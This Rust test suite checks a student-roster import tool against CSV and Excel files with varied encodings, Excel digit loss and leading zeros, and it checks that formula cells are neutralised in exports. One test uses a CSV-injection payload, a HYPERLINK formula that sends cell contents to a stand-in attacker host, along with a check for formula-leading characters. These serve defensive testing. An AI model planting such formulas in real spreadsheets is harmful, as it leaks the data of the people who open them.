//! Rosters as colleges really send them, written by other software: Python's csv module (CRLF,
//! GB18030, UTF-16 with tabs, a BOM, CR) and openpyxl workbooks (a 说明 sheet first, numbers as
//! floats and as scientific text, full-width digits, leading zeros). Each file imports correctly
//! or is refused naming the row, the column and the fix. The files are made at test time by
//! `fixtures/make_rosters.py` in a venv with a pinned openpyxl, so a fresh machine runs them too.

mod common;

use common::{photoday, stderr_of, stdout_of};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

const OPENPYXL: &str = "openpyxl==3.1.5";

/// The fixture files, made once per test run.
fn fixtures() -> &'static Path {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let base = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
        let venv = base.join("py-openpyxl-3.1.5");
        let python = venv.join("bin/python");
        if !python.exists() {
            let tmp = base.join(format!("py-openpyxl-tmp-{}", std::process::id()));
            let _ = std::fs::remove_dir_all(&tmp);
            run(Command::new("python3").args(["-m", "venv"]).arg(&tmp));
            run(Command::new(tmp.join("bin/python")).args([
                "-m",
                "pip",
                "install",
                "--quiet",
                "--disable-pip-version-check",
                OPENPYXL,
            ]));
            // A venv's scripts name its folder; make it afresh in place when another run won.
            if std::fs::rename(&tmp, &venv).is_err() {
                let _ = std::fs::remove_dir_all(&tmp);
            }
        }
        let out = base.join(format!("roster-fixtures-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&out);
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/make_rosters.py");
        run(Command::new(&python).arg(script).arg(&out));
        out
    })
}

fn run(c: &mut Command) {
    let o = c
        .output()
        .unwrap_or_else(|e| panic!("{c:?} could not start: {e}"));
    assert!(
        o.status.success(),
        "{c:?} failed (Python 3 with venv and pip, and PyPI, are needed to make the fixtures):\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

fn fixture(name: &str) -> PathBuf {
    fixtures().join(name)
}

fn init(tmp: &Path) -> PathBuf {
    let dir = tmp.join("event");
    photoday().arg("init").arg(&dir).assert().success();
    dir
}

fn import(dir: &Path, file: &Path, extra: &[&str]) -> assert_cmd::assert::Assert {
    photoday()
        .args(["roster", "import"])
        .arg(file)
        .args(extra)
        .arg("--dir")
        .arg(dir)
        .assert()
}

/// Every row of the absentee report (before the day: the whole roster), without the header.
fn roster_rows(dir: &Path) -> Vec<Vec<String>> {
    let out = dir.join("absentees.csv");
    photoday()
        .args(["report", "absentees", "--out"])
        .arg(&out)
        .arg("--dir")
        .arg(dir)
        .assert()
        .success();
    let text = std::fs::read_to_string(&out).unwrap();
    let mut r = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn numbers_and_names(dir: &Path) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = roster_rows(dir)
        .into_iter()
        .map(|r| (r[0].clone(), r[1].clone()))
        .collect();
    v.sort();
    v
}

fn the_three() -> Vec<(String, String)> {
    vec![
        ("202001010101".into(), "李明".into()),
        ("202001010102".into(), "王芳".into()),
        ("202002010101".into(), "赵强".into()),
    ]
}

#[test]
fn csv_written_by_python_imports_whatever_its_encoding_line_ends_and_separator() {
    for (file, understood) in [
        (
            "crlf_utf8.csv",
            "CSV, UTF-8, comma-separated, CRLF line ends",
        ),
        (
            "bom_utf8.csv",
            "CSV, UTF-8 with BOM, comma-separated, CRLF line ends",
        ),
        (
            "gb18030.csv",
            "CSV, GB18030, comma-separated, CRLF line ends",
        ),
        (
            "utf16_tabs.txt",
            "text, UTF-16LE, tab-separated, CRLF line ends",
        ),
        ("cr_mac.csv", "CSV, UTF-8, comma-separated, CR line ends"),
    ] {
        let tmp = tempfile::tempdir().unwrap();
        let dir = init(tmp.path());
        let a = import(&dir, &fixture(file), &[]).success();
        let out = stdout_of(&a);
        assert!(out.contains(understood), "{file}: {out}");
        assert!(out.contains("header on row 1; 3 students"), "{file}: {out}");
        assert_eq!(numbers_and_names(&dir), the_three(), "{file}");
    }
}

#[test]
fn a_workbook_with_a_notes_sheet_first_floats_scientific_text_and_full_width_digits_imports() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    let a = import(&dir, &fixture("explained.xlsx"), &[]).success();
    let out = stdout_of(&a);
    assert!(
        out.contains("worksheet `名单` (of 说明, 名单); header on row 2; 4 students"),
        "{out}"
    );
    assert_eq!(
        numbers_and_names(&dir),
        vec![
            ("202001010101".into(), "李明".into()), // a float; full-width spaces trimmed
            ("202001010102".into(), "王芳".into()), // an int
            ("202001010103".into(), "张伟".into()), // 2.02001010103E+11 as text
            ("202002010101".into(), "赵强".into()), // full-width digits
        ]
    );
}

#[test]
fn a_workbook_without_a_roster_sheet_names_its_sheets_and_the_sheet_option() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    let a = import(&dir, &fixture("only_notes.xlsx"), &[]).code(2);
    let err = stderr_of(&a);
    assert!(
        err.contains("worksheets: 说明, 备注") && err.contains("--sheet"),
        "{err}"
    );
}

#[test]
fn digits_lost_to_excel_are_refused_naming_row_column_and_the_fix() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    let a = import(&dir, &fixture("scientific_lost.csv"), &[]).code(2);
    let err = stderr_of(&a);
    assert!(err.contains("row 3, column 学号: `2.02001E+11`"), "{err}");
    assert!(err.contains("format the 学号 column as Text"), "{err}");

    let a = import(&dir, &fixture("digits_lost.xlsx"), &[]).code(2);
    let err = stderr_of(&a);
    assert!(err.contains("row 3, column 学号: `2.02001E+11`"), "{err}");
    assert!(
        err.contains("row 4, column 学号: `1234567890123456` has 16 digits")
            && err.contains("Excel keeps in a number (15)"),
        "{err}"
    );
    assert!(roster_rows(&dir).is_empty(), "all or nothing");
}

#[test]
fn leading_zeros_are_kept_and_restored_and_their_passes_verify() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    import(&dir, &fixture("leading_zeros.xlsx"), &[]).success();
    let rows: Vec<String> = numbers_and_names(&dir).into_iter().map(|r| r.0).collect();
    // The third was an Excel number that lost its zero; the roster's width restores it.
    assert_eq!(rows, vec!["0501230101", "0501230102", "0501230103"]);
    photoday()
        .args(["passes", "issue", "--dir"])
        .arg(&dir)
        .assert()
        .success();
    let passes = common::pass_texts(&dir);
    let text = &passes[&501230101];
    let a = photoday()
        .args(["pass", "verify", "--json", text, "--dir"])
        .arg(&dir)
        .assert()
        .success();
    assert!(stdout_of(&a).contains("501230101"));
}

#[test]
fn two_rows_that_differ_only_by_a_leading_zero_are_refused_naming_both() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    let a = import(&dir, &fixture("zeros_clash.csv"), &[]).code(2);
    let err = stderr_of(&a);
    assert!(
        err.contains("row 3, column 学号: `501230101` here and `0501230101` in row 2"),
        "{err}"
    );
}

fn write(tmp: &Path, name: &str, text: &str) -> PathBuf {
    let p = tmp.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

const HEADER: &str = "学号,姓名,学院,年级,班级,已缴费\n";

#[test]
fn importing_college_a_then_college_b_keeps_both() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    let a = write(
        tmp.path(),
        "it.csv",
        &format!("{HEADER}2020010001,李明,信息技术与工程学院,2020级本科,软件1班,是\n2020010002,王芳,信息技术与工程学院,2020级本科,软件1班,否\n"),
    );
    let b = write(
        tmp.path(),
        "acc.csv",
        &format!("{HEADER}2020020001,赵强,会计学院,2020级本科,会计1班,是\n"),
    );
    import(&dir, &a, &[]).success();
    let out = stdout_of(&import(&dir, &b, &[]).success());
    assert!(
        out.contains("Colleges kept as they were: 信息技术与工程学院"),
        "{out}"
    );
    assert!(out.contains("the roster now has 3 students"), "{out}");
    assert_eq!(roster_rows(&dir).len(), 3);
}

#[test]
fn a_removal_without_replace_changes_nothing_and_lists_who_would_go() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = common::ready_event(tmp.path()); // 4 students with passes
    let it_only = write(
        tmp.path(),
        "it-again.csv",
        &format!("{HEADER}2020010001,李明,信息技术与工程学院,2020级本科,软件2班,是\n2020010002,王芳,信息技术与工程学院,2020级本科,软件1班,是\n2020010099,新生,信息技术与工程学院,2020级本科,软件1班,否\n"),
    );
    let a = import(&dir, &it_only, &[]).code(2);
    let (out, err) = (stdout_of(&a), stderr_of(&a));
    assert!(
        out.contains("added 1, changed 2, removed 1, unchanged 0"),
        "{out}"
    );
    assert!(
        out.contains("- 2020010003 张伟 信息技术与工程学院 软件2班 (holds a pass)"),
        "{out}"
    );
    assert!(
        out.contains("~ 2020010001 李明 信息技术与工程学院 软件2班: 班级 软件1班 → 软件2班"),
        "{out}"
    );
    assert!(
        out.contains("Colleges kept as they were: 会计学院"),
        "{out}"
    );
    assert!(
        err.contains("--replace") && err.contains("nothing was changed"),
        "{err}"
    );
    assert_eq!(roster_rows(&dir).len(), 4, "nothing changed");

    // The dry run shows the same and stores nothing, even with --replace.
    let out = stdout_of(&import(&dir, &it_only, &["--dry-run", "--replace"]).success());
    assert!(out.contains("dry run: nothing was stored"), "{out}");
    assert_eq!(roster_rows(&dir).len(), 4);

    let out = stdout_of(&import(&dir, &it_only, &["--replace"]).success());
    assert!(
        out.contains("the roster now has 4 students (import #2"),
        "{out}"
    );
    let mut nos: Vec<String> = roster_rows(&dir)
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    nos.sort();
    assert_eq!(
        nos,
        vec!["2020010001", "2020010002", "2020010099", "2020020001"]
    );

    // History: both files, with their SHA-256, and who came from where.
    let a = photoday()
        .args(["roster", "history", "--dir"])
        .arg(&dir)
        .assert()
        .success();
    let out = stdout_of(&a);
    let sha = photoday_core::admin::sha256_hex(&std::fs::read(&it_only).unwrap());
    assert!(out.contains(&format!("sha256 {sha}")), "{out}");
    assert!(out.contains("#1 ") && out.contains("roster.csv"), "{out}");
    assert!(
        out.contains("added 1, changed 2, removed 1; 3 of today's students come from it"),
        "{out}"
    );
    assert!(out.contains("removing pass holders was allowed"), "{out}");
    let a = photoday()
        .args(["roster", "history", "--show", "2", "--dir"])
        .arg(&dir)
        .assert()
        .success();
    assert!(
        stdout_of(&a).contains("- 2020010003 张伟"),
        "{}",
        stdout_of(&a)
    );
}

#[test]
fn the_absentee_list_goes_out_and_comes_back_as_a_roster_after_an_excel_round_trip() {
    // Excel on Windows saves CSV with CRLF line ends; the tool's own file must import again.
    let tmp = tempfile::tempdir().unwrap();
    let dir = common::ready_event(tmp.path());
    roster_rows(&dir);
    let text = std::fs::read_to_string(dir.join("absentees.csv")).unwrap();
    let crlf = write(
        tmp.path(),
        "absentees-excel.csv",
        &text.replace('\n', "\r\n"),
    );
    let out = stdout_of(&import(&dir, &crlf, &["--dry-run"]).success());
    assert!(
        out.contains("CRLF line ends; header on row 1; 4 students"),
        "{out}"
    );
    assert!(
        out.contains("added 0, changed 0, removed 0, unchanged 4"),
        "{out}"
    );
}

#[test]
fn formula_cells_are_neutralised_in_every_csv_report_and_stay_strings_in_xlsx() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = init(tmp.path());
    import(&dir, &fixture("formula_names.csv"), &[]).success();
    photoday()
        .args(["passes", "issue", "--dir"])
        .arg(&dir)
        .assert()
        .success();
    let mut csvs = Vec::new();
    for kind in ["attendance", "absentees", "fees", "duplicates"] {
        let out = tmp.path().join(format!("{kind}.csv"));
        photoday()
            .args(["report", kind, "--out"])
            .arg(&out)
            .arg("--dir")
            .arg(&dir)
            .assert()
            .success();
        csvs.push(out);
    }
    let export = tmp.path().join("passes");
    photoday()
        .args(["passes", "export", "--format", "csv", "--out"])
        .arg(&export)
        .arg("--dir")
        .arg(&dir)
        .assert()
        .success();
    csvs.push(export.join("passes.csv"));
    let mut seen_formula_name = 0;
    for path in &csvs {
        let text = std::fs::read_to_string(path).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: `{cell}` would run as a formula in Excel",
                    path.display()
                );
                if cell == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" {
                    seen_formula_name += 1;
                }
            }
        }
    }
    assert!(seen_formula_name >= 2, "absentees and passes list the name");
    let absentees = std::fs::read_to_string(tmp.path().join("absentees.csv")).unwrap();
    assert!(absentees.contains("'-王芳"), "{absentees}");

    // Re-imported, the names come back as they were.
    let back = tmp.path().join("absentees.csv");
    let out = stdout_of(&import(&dir, &back, &["--dry-run"]).success());
    assert!(out.contains("unchanged 3"), "{out}");

    // In .xlsx the name is a string cell, never a formula.
    let xlsx = tmp.path().join("absentees.xlsx");
    photoday()
        .args(["report", "absentees", "--out"])
        .arg(&xlsx)
        .arg("--dir")
        .arg(&dir)
        .assert()
        .success();
    use calamine::{open_workbook_auto, Data, Reader};
    let mut book = open_workbook_auto(&xlsx).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
    let cells = book.worksheet_range(&name).unwrap();
    assert!(cells.used_cells().any(|(_, _, c)| matches!(c,
        Data::String(s) if s.starts_with("=HYPERLINK"))));
}
